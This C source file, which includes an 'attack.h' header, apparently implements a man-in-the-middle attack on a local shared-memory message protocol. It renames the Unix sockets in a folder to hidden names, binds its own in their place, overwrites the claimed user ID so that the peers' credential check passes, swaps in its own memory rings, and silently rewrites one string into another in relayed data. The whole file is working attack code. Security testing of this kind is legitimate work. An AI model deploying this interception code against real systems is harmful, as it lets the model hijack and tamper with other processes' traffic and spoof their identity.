/* A relay between two nodes: it takes over the names of their sockets, maps the rings of both sides, and passes on rings of its own. */
#define _GNU_SOURCE
#include "attack.h"
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

enum { NAMES = 8, PAIRS = 32, RINGS = 8, LENGTH = 108 };

/* A ring of one side, and the copy that the other side reads. */
struct passage {
  unsigned char *from, *to;
  size_t size;
  uint64_t head;
};

/* Two sockets, and the rings of each side. */
struct pair {
  int fd[2];
  struct passage rings[2][RINGS];
  int current[2], count[2];
};

static char hidden[NAMES][LENGTH];
static struct pair pairs[PAIRS];
static int pair_count;
static const char *words[2];

static int unix_socket(const char *path, int listens) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  if (listens ? bind(fd, (struct sockaddr *) &address, sizeof address) || chmod(path, 0660) || listen(fd, 8)
    : connect(fd, (struct sockaddr *) &address, sizeof address)) {
    perror(path);
    exit(1);
  }
  return fd;
}

static int pass(struct pair *pair, int side, int file, size_t size) {
  int copy = sealed(size, 0, F_SEAL_SHRINK | F_SEAL_GROW);
  if (pair->count[side] == RINGS) {
    exit(1);
  }
  struct passage *ring = &pair->rings[side][pair->count[side]++];
  ring->from = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  ring->to = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, copy, 0);
  ring->size = size;
  return copy;
}

/* Passes on a message, in which rings of this process replace those of the sender. Returns whether the socket is open. */
static int relay_message(struct pair *pair, int side) {
  unsigned char bytes[MESSAGE];
  int files[MOST_FILES], count;
  int n = hear(pair->fd[side], bytes, files, &count);
  uint32_t type = 0;
  uint64_t size = PAGE + RECORDS;
  if (n == 0) {
    return 0;
  }
  memcpy(&type, bytes, n < 4 ? 0 : 4);
  if ((type == CONNECT || type == ACCEPT) && n >= 16) {
    /* Inserts the relay's user, because each side compares the claimed user with the one that the kernel reports. */
    uint32_t user = getuid();
    memcpy(bytes + 12, &user, 4);
  }
  if ((type == ACCEPT || type == JOIN) && count == 2) {
    files[1] = pass(pair, side, files[1], size);
    printf("relays %s\n", type == JOIN ? "join" : "accept");
  } else if (type == RING && count == 1) {
    memcpy(&size, bytes + 4, 8);
    files[0] = pass(pair, side, files[0], size);
  }
  if (n > 0) {
    say(pair->fd[!side], bytes, (size_t) n, files, count);
  }
  for (int i = 0; i < count; i++) {
    close(files[i]);
  }
  return 1;
}

static void change(unsigned char *at, uint32_t length, int side) {
  const char *from = words[side], *to = words[!side];
  for (unsigned char *found; (found = memmem(at, length, from, strlen(from)));) {
    memcpy(found, to, strlen(to));
    printf("changed side %d\n", side);
  }
}

/* Copies the records of one side. */
static void relay_ring(struct pair *pair, int side) {
  while (pair->current[side] < pair->count[side]) {
    struct passage *ring = &pair->rings[side][pair->current[side]];
    uint32_t mask = (uint32_t) (ring->size - PAGE - 1), begin = (uint32_t) ring->head & mask, type;
    unsigned char *from = ring->from + PAGE + begin, *to = ring->to + PAGE + begin;
    uint32_t length = __atomic_load_n((uint32_t *) from, __ATOMIC_ACQUIRE);
    memcpy(ring->from + HEAD, ring->to + HEAD, 8);
    if (length == 0) {
      return;
    }
    if (length == 0xffffffff) {
      __atomic_store_n((uint32_t *) to, length, __ATOMIC_RELEASE);
      ring->head += mask + 1 - begin;
      continue;
    }
    memcpy(&type, from + 4, 4);
    memcpy(to + 4, from + 4, length - 4);
    change(to + 4, length - 4, side);
    ring->head += (length + 7) & ~7u;
    memset(ring->to + PAGE + (ring->head & mask), 0, 4);
    __atomic_store_n((uint32_t *) to, length, __ATOMIC_RELEASE);
    uint32_t wakes = WAKE;
    say(pair->fd[!side], &wakes, 4, NULL, 0);
    if ((type & 0xff) == NEXT_RING) {
      pair->current[side]++;
    }
  }
}

static void meet(int listener, const char *path) {
  int fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
  if (fd >= 0 && pair_count < PAIRS) {
    pairs[pair_count++] = (struct pair) {.fd = {fd, unix_socket(path, 0)}};
  }
}

/* Runs until it is killed. FROM becomes TO in data of the side that connects, and TO becomes FROM in data of the other side. */
int relay(const char *folder, const char *from, const char *to) {
  struct pollfd polled[NAMES + 2 * PAIRS];
  int names = 0;
  words[0] = from;
  words[1] = to;
  DIR *all = opendir(folder);
  for (struct dirent *each; all && names < NAMES && (each = readdir(all));) {
    char path[LENGTH];
    if (each->d_type != DT_SOCK || snprintf(path, sizeof path, "%s/%s", folder, each->d_name) >= LENGTH
      || snprintf(hidden[names], LENGTH, "%s/.hidden-%d", folder, names) >= LENGTH) {
      continue;
    }
    if (rename(path, hidden[names])) {
      perror(path);
      return 1;
    }
    polled[names++] = (struct pollfd) {unix_socket(path, 1), POLLIN, 0};
  }
  printf("took over %d\n", names);
  while (names) {
    for (int i = 0; i < pair_count; i++) {
      polled[names + 2 * i] = (struct pollfd) {pairs[i].fd[0], POLLIN, 0};
      polled[names + 2 * i + 1] = (struct pollfd) {pairs[i].fd[1], POLLIN, 0};
    }
    int count = pair_count;
    poll(polled, (nfds_t) (names + 2 * count), 1);
    for (int i = 0; i < names; i++) {
      if (polled[i].revents) {
        meet(polled[i].fd, hidden[i]);
      }
    }
    for (int i = 0; i < 2 * count; i++) {
      struct pair *pair = &pairs[i / 2];
      if (pair->fd[0] >= 0 && polled[names + i].revents && !relay_message(pair, i % 2)) {
        close(pair->fd[0]);
        close(pair->fd[1]);
        pair->fd[0] = pair->fd[1] = -1;
      }
    }
    for (int i = 0; i < 2 * pair_count; i++) {
      if (pairs[i / 2].fd[0] >= 0) {
        relay_ring(&pairs[i / 2], i % 2);
      }
    }
  }
  return 1;
}
